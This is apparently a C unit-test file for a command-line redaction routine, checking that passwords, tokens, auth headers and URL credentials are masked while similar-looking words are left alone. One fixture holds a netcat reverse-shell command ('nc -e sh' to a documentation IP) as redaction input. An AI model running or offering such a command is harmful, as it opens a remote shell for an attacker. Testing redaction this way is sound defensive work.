// SPDX-License-Identifier: Apache-2.0
/* Which words of a command line are secrets, and which only look so? */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <string.h>

#include "alert/alert.h"
#include "alert/redact.h"

static const struct {
	const char *in, *out;
} lines[] = {
	{ "agent --password=hunter2 --port=443", "agent --password=*** --port=443" },
	{ "agent --db-password hunter2 -v", "agent --db-password *** -v" },
	{ "agent --password --verbose x", "agent --password --verbose x" },
	{ "agent DB_PASSWORD=hunter2 HOME=/root", "agent DB_PASSWORD=*** HOME=/root" },
	{ "agent --client-secret=a --api-key b", "agent --client-secret=* --api-key *" },
	{ "agent --compass=north --bypass=1", "agent --compass=north --bypass=1" },
	{ "agent --Token=abcdef", "agent --Token=***" },
	{ "agent password:hunter2", "agent password:***" },
	{ "agent https://user:hunter2@db.example/x", "agent https://user:***@db.example/x" },
	{ "agent https://user@db.example:8443/x", "agent https://user@db.example:8443/x" },
	{ "agent https://db.example/x:y@z", "agent https://db.example/x:y@z" },
	{ "agent https://x/?access_token=abcdef", "agent https://x/?access_token=***" },
	{ "/usr/bin/mysql -phunter2 -P3306", "/usr/bin/mysql -p*** -P3306" },
	{ "mysql -p db", "mysql -p db" },
	{ "ssh -p 22 host", "ssh -p 22 host" },
	{ "ssh -p2222 host", "ssh -p2222 host" },
	{ "sshpass -p hunter2 ssh host", "sshpass -p *** ssh host" },
	{ "curl -u joe:hunter2 https://x", "curl -u *** https://x" },
	{ "curl -ujoe:hunter2 https://x", "curl -u*** https://x" },
	{ "wget -u joe", "wget -u joe" },
	{ "curl -H Authorization: Bearer abcdefgh", "curl -H Authorization: Bearer ***" },
	{ "tool ghp_0123456789abcdef", "tool ghp_***" },
	{ "tool ghp_short", "tool ghp_short" },
	{ "password", "password" },
	{ "", "" },
	{ "  ", "  " },
	{ "agent --password=", "agent --password=" },
	{ "env PGPASSWORD=hunter2 psql -p 5432", "env PGPASSWORD=*** psql -p 5432" },
	{ "MYSQL_PWD=hunter2 mysql -P3306", "MYSQL_PWD=*** mysql -P3306" },
	{ "az AccountKey=hunter2", "az AccountKey=***" },
	{ "az --dbPass=hunter2", "az --dbPass=***" },
	{ "sh PWD=/root OLDPWD=/srv", "sh PWD=/root OLDPWD=/srv" },
	{ "agent --port=5 --max-tokens=9", "agent --port=5 --max-tokens=9" },
	{ "agent key=north monkey=1", "agent key=north monkey=1" },
	{ "ssh -p 8080 host", "ssh -p 8080 host" },
	{ "wget https://x/?a=1&token=abc&b=2", "wget https://x/?a=1&token=***&b=2" },
	{ "wget https://x/?key=abc&apikey=def#top", "wget https://x/?key=***&apikey=***#top" },
	{ "wget https://x/?secret=abc&password=def", "wget https://x/?secret=***&password=***" },
	{ "wget https://x/?monkey=abc&page=2", "wget https://x/?monkey=abc&page=2" },
	{ "tool \"Server=db;Password=abc;Encrypt=1\"",
	  "tool \"Server=db;Password=***;Encrypt=1\"" },
	{ "sudo -u joe mysql -phunter2", "sudo -u joe mysql -p***" },
	{ "mysql -phunter2; ssh -p2222 h", "mysql -p***; ssh -p2222 h" },
	{ "mysql -phunter2 && ssh -p2222 h|tee", "mysql -p*** && ssh -p2222 h|tee" },
	{ "mysql '-phunter2' -p'a b'", "mysql '-p***' -p***" },
	{ "PGPASSWORD='a b' psql", "PGPASSWORD='***' psql" },
	{ "curl --header=Authorization:abcd u", "curl --header=Authorization:*** u" },
	{ "curl -H \"Cookie: sid=abc; x=y\" u", "curl -H \"Cookie:***\" u" },
	{ "curl -H \"Accept: text/html\" u", "curl -H \"Accept: text/html\" u" },
	{ "curl -H Authorization: Basic abcdefgh", "curl -H Authorization: Basic ***" },
	{ "curl -H Authorization: abcdefgh u", "curl -H Authorization: *** u" },
	{ "sh -c \"su -c 'mysql -phunter2 db' joe\"", "sh -c \"su -c 'mysql -p*** db' joe\"" },
	{ "x {\"user\":\"joe\",\"password\":\"abc\"}", "x {\"user\":\"joe\",\"password\":\"***" },
	{ "x --dsn=pg://joe:hunter2@db:5432/x", "x --dsn=pg://joe:***@db:5432/x" },
	{ "x --t=ghp_0123456789abcdef", "x --t=ghp_***" },
	{ "don't ; tell", "don't ; tell" },
};

static void secrets_go_and_everything_else_stays(void **state)
{
	size_t i;
	char text[128];

	(void)state;
	for (i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		memcpy(text, lines[i].in, strlen(lines[i].in) + 1);
		pst_redact(text);
		assert_string_equal(text, lines[i].out);
	}
}

static void a_secret_with_blanks_is_one_argument(void **state)
{
	char args[] = "agent\0--password=two words\0-v";
	size_t len = pst_redact_args(args, sizeof(args) - 1, '\0');

	(void)state;
	assert_int_equal(len, sizeof("agent\0--password=***\0-v") - 1);
	assert_memory_equal(args, "agent\0--password=***\0-v", len + 1);
}

static void a_header_in_one_argument_is_redacted(void **state)
{
	char args[] = "curl\0-H\0Authorization: Bearer abcdefgh";
	size_t len = pst_redact_args(args, sizeof(args) - 1, '\0');

	(void)state;
	assert_memory_equal(args, "curl\0-H\0Authorization:***", len + 1);
}

#define ARGS(text) (text), sizeof(text) - 1

static const struct {
	const char *in;
	size_t in_len;
	const char *out;
	size_t out_len;
} lists[] = {
	{ ARGS("bash\0-c\0mysql -uroot -phunter2; TOKEN=abc ls -p"),
	  ARGS("bash\0-c\0mysql -uroot -p***; TOKEN=*** ls -p") },
	{ ARGS("bash\0-c\0TOKEN=abc nc -e sh 203.0.113.9"),
	  ARGS("bash\0-c\0TOKEN=*** nc -e sh 203.0.113.9") },
	{ ARGS("ssh\0-p\08080\0host\0mysql -phunter2"), ARGS("ssh\0-p\08080\0host\0mysql -p***") },
	{ ARGS("curl\0--header=Authorization: Bearer abc\0u"),
	  ARGS("curl\0--header=Authorization:***\0u") },
	{ ARGS("curl\0-H\0Cookie: a=b; c=d\0u"), ARGS("curl\0-H\0Cookie:***\0u") },
	{ ARGS("bash\0-c\0curl -H 'Authorization: Bearer abc' u"),
	  ARGS("bash\0-c\0curl -H 'Authorization:***' u") },
	{ ARGS("tool\0Data Source=db;Password=abc;Encrypt=1"),
	  ARGS("tool\0Data Source=db;Password=***;Encrypt=1") },
	{ ARGS("mysql\0-pa b\0db"), ARGS("mysql\0-p***\0db") },
	{ ARGS("tool\0--password\0two words\0-v"), ARGS("tool\0--password\0***\0-v") },
	{ ARGS("git\0-m\0count the tokens, mind the compass"),
	  ARGS("git\0-m\0count the tokens, mind the compass") },
	{ ARGS("a\0\0b\0"), ARGS("a\0\0b\0") },
};

static void a_command_line_within_an_argument_is_redacted_by_the_same_rules(void **state)
{
	char text[128];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(lists) / sizeof(lists[0]); i++) {
		memcpy(text, lists[i].in, lists[i].in_len + 1);
		assert_int_equal(pst_redact_args(text, lists[i].in_len, '\0'), lists[i].out_len);
		assert_memory_equal(text, lists[i].out, lists[i].out_len + 1);
	}
}

static void hostile_bytes_never_make_it_longer(void **state)
{
	static const char alphabet[] = "'\" =:;&?/@-p,{|\n(a";
	uint32_t seed = 1;
	char text[65];

	(void)state;
	for (unsigned int round = 0; round < 20000; round++) {
		size_t len;

		for (size_t i = 0; i < 64; i++) {
			seed = seed * 1664525u + 1013904223u;
			text[i] = alphabet[(seed >> 16) % (sizeof(alphabet) - 1)];
		}
		text[64] = '\0';
		len = pst_redact_args(text, 64, '\0');
		assert_true(len <= 64);
		assert_int_equal(strlen(text), len);
	}
}

static void redaction_twice_changes_nothing_more(void **state)
{
	char text[128], again[128];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		memcpy(text, lines[i].out, strlen(lines[i].out) + 1);
		memcpy(again, text, sizeof(again));
		pst_redact(again);
		assert_string_equal(again, text);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(secrets_go_and_everything_else_stays),
		cmocka_unit_test(a_secret_with_blanks_is_one_argument),
		cmocka_unit_test(a_header_in_one_argument_is_redacted),
		cmocka_unit_test(a_command_line_within_an_argument_is_redacted_by_the_same_rules),
		cmocka_unit_test(hostile_bytes_never_make_it_longer),
		cmocka_unit_test(redaction_twice_changes_nothing_more),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
